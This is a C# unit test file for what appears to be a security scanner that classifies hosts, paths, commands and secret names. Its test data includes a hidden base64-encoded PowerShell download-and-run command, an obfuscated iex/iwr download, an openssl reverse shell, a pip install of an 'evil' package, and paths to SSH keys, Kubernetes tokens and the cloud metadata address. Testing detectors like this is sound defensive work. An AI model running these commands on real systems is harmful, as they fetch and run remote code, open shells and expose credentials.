using System.Text;
using Assay.Engine.Capabilities;
using Assay.Python.Meaning;

namespace Assay.Tests.Engine.Capabilities;

public sealed class ClassTableTests
{
    [Fact]
    public void Hosts_are_of_the_class_that_the_table_says() =>
        AssertAll(ClassTables.Read("hosts.txt", ' '), static text => HostClasses.Of(text).Class.ToString());

    [Fact]
    public void Paths_are_of_the_class_that_the_table_says() =>
        // In paths the underscore of the table is a hole only between separators, since names have underscores of their own.
        AssertAll(
            ClassTables.Read("paths.txt", ' ').Select(static row => (row.Class, Unhole(row.Text))),
            static text => PathClasses.Of(text).Class.ToString());

    [Fact]
    public void What_is_known_of_a_path_may_begin_within_its_first_segment()
    {
        Assert.Equal(PathClass.Secret, PathClasses.Of($"here/{TextValue.Hole}.env").Class);
        Assert.Equal(PathClass.Wallet, PathClasses.Of($"{TextValue.Hole}ledger live/x").Class);
        Assert.Equal(PathClass.Ordinary, PathClasses.Of($"x/.env{TextValue.Hole}").Class);
    }

    [Fact]
    public void Commands_are_of_the_classes_that_the_table_says() =>
        AssertAll(
            ClassTables.Read("commands.txt", '\t').Select(static row => (string.Join(", ", row.Class.Split(',').Order(StringComparer.Ordinal)), row.Text)),
            static text => string.Join(", ", CommandClasses.Of(text).Classes.ToString().Split(", ").Order(StringComparer.Ordinal)));

    [Fact]
    public void An_encoded_command_is_decoded_and_read()
    {
        string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("iwr https://example.invalid/x -OutFile x.exe; ./x.exe"));
        CommandReading reading = CommandClasses.Of($"powershell.exe -NoP -w hidden -enc {encoded}");
        Assert.True(reading.Is(CommandClass.EncodedPowerShell));
        Assert.True(reading.Is(CommandClass.HiddenPowerShell));
        Assert.True(reading.Is(CommandClass.DownloadAndRun));
        Assert.StartsWith("iwr ", reading.Decoded, StringComparison.Ordinal);
        Assert.Equal("example.invalid", Assert.Single(reading.Hosts).Host);
    }

    [Fact]
    public void A_caret_or_backtick_within_a_word_hides_no_program()
    {
        Assert.Equal(["powershell"], CommandClasses.Of("p^ower^shell -c x").Programs.Take(1));
        Assert.True(CommandClasses.Of("powershell -c \"i`e`x (i`w`r https://example.invalid/x)\"").Is(CommandClass.Download));
    }

    [Fact]
    public void A_shell_whose_output_goes_to_an_encrypted_connection_is_a_reverse_shell() =>
        Assert.True(CommandClasses.Of("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s").Is(CommandClass.ReverseShell));

    [Fact]
    public void Packages_and_code_of_a_command_are_found()
    {
        Assert.Equal(["requests==2.0", "evil"], CommandClasses.Of("sys.executable -m pip install -q --index-url https://example.invalid/simple requests==2.0 evil").Packages);
        Assert.Equal("print(1)", CommandClasses.Of("python3 -c 'print(1)'").PythonCode);
    }

    [Fact]
    public void A_hostile_command_line_ends()
    {
        Assert.NotNull(CommandClasses.Of(new string('(', 1_000_000)));
        Assert.NotNull(CommandClasses.Of(string.Concat(Enumerable.Repeat("sh -c '", 100_000))));
        Assert.NotNull(CommandClasses.Of(string.Concat(Enumerable.Repeat("\"$(", 30_000))));
    }

    [Theory]
    [InlineData("GITHUB_TOKEN", true)]
    [InlineData("AWS_SECRET_ACCESS_KEY", true)]
    [InlineData("TWINE_PASSWORD", true)]
    [InlineData("MY_API_KEY", true)]
    [InlineData("ACTIONS_ID_TOKEN_REQUEST_TOKEN", true)]
    [InlineData("PGPASSWORD", true)]
    [InlineData("PWD", false)]
    [InlineData("PATH", false)]
    [InlineData("HOME", false)]
    [InlineData("KEYBOARD", false)]
    [InlineData("TOKENIZERS_PARALLELISM", false)]
    [InlineData("PYTHONPATH", false)]
    public void Secret_variables_are_known_by_their_names(string name, bool secret) => Assert.Equal(secret, SecretNames.IsSecretVariable(name));

    [Theory]
    [InlineData("private_key", true)]
    [InlineData("privateKey", true)]
    [InlineData("mnemonic", true)]
    [InlineData("seed_phrase", true)]
    [InlineData("keypair", true)]
    [InlineData("public_key", false)]
    [InlineData("key", false)]
    [InlineData("seed", false)]
    [InlineData("token", false)]
    public void Key_material_is_known_by_its_name(string name, bool isKey) => Assert.Equal(isKey, SecretNames.IsKeyMaterial(name));

    [Fact]
    public void Addresses_are_found_in_texts()
    {
        string text = "import os\nos.system('curl https://203.0.113.5/a')\nurl = \"discord.com/api/webhooks/1/x\" # see www.example.org";
        Assert.Equal([HostClass.RawAddress, HostClass.Webhook], HostClasses.FindAll(text).Select(static reading => reading.Class));
    }

    [Fact]
    public void What_is_read_at_a_path_carries_its_label()
    {
        Assert.Equal(Labels.File | Labels.SecretFile, PathClasses.LabelsOf("~/.ssh/id_rsa"));
        Assert.Equal(Labels.File | Labels.SecretFile | Labels.CloudIdentity, PathClasses.LabelsOf("/var/run/secrets/kubernetes.io/serviceaccount/token"));
        Assert.Equal(Labels.File, PathClasses.LabelsOf("data.json"));
        Assert.Equal(Labels.CloudIdentity, HostClasses.LabelsOf("http://169.254.169.254/latest/"));
    }

    private static string Unhole(string text)
    {
        string hole = TextValue.Hole.ToString();
        string[] parts = text.Split('/', '\\');
        return Array.Exists(parts, part => part.Contains(hole, StringComparison.Ordinal) && part != hole)
            ? string.Join('/', parts.Select(part => part == hole ? part : part.Replace(hole, "_", StringComparison.Ordinal)))
            : text;
    }

    private static void AssertAll(IEnumerable<(string Class, string Text)> rows, Func<string, string> read)
    {
        List<string> wrong = [];
        int count = 0;
        foreach ((string expected, string text) in rows)
        {
            count++;
            string found = read(text);
            if (found != expected)
            {
                wrong.Add($"{text}: {found}, not {expected}");
            }
        }

        Assert.True(count > 40);
        Assert.True(wrong.Count == 0, string.Join('\n', wrong));
    }
}
